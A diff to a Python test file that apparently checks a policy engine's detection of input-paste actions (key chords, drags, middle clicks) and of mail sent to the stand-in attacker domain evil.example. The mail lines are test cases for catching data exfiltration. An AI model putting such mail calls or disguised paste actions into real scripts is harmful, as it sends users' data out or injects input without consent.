@@ -143,6 +143,10 @@ def facts_of_processes_and_files():
              *[('effect = "input", paste = true, terminal = true', f'require("sys.input").{does}', pastes) for does, pastes in (
                  ('keys("ctrl+v", { duration = 0.01 })', True), ('send { kind = "keys", chord = "shift+Insert", duration = 0.01 }', True),
                  ('key_down "ctrl+v"', True), ('keys("ctrl+v", { count = 2 })', False), ('keys("ctrl+c", { duration = 0.01 })', False))],
+             *[('effect = "input", paste = true', f'require("sys.input").{does}', pastes) for does, pastes in (
+                 ('drag({ { x = 120, y = 120 }, { x = 130, y = 130 } }, { button = "right" })', True),
+                 ('drag({ { x = 120, y = 120 }, { x = 130, y = 130 } }, { modifiers = { "ctrl" } })', True),
+                 ('drag { { x = 120, y = 120 }, { x = 121, y = 121 } }', False), ('click(120, 120, { button = "middle" })', True))],
              ('effect = "mail", to = "*@evil.example"', 'require("sys.effect").mail { recipients = { "x@EVIL.example" }, message = "m" }', True),
              ('effect = "mail", to = "*@evil.example"',
               'require("sys.effect").mail { recipients = { "a@b.example", "x@evil.example" }, message = "m" }', True),
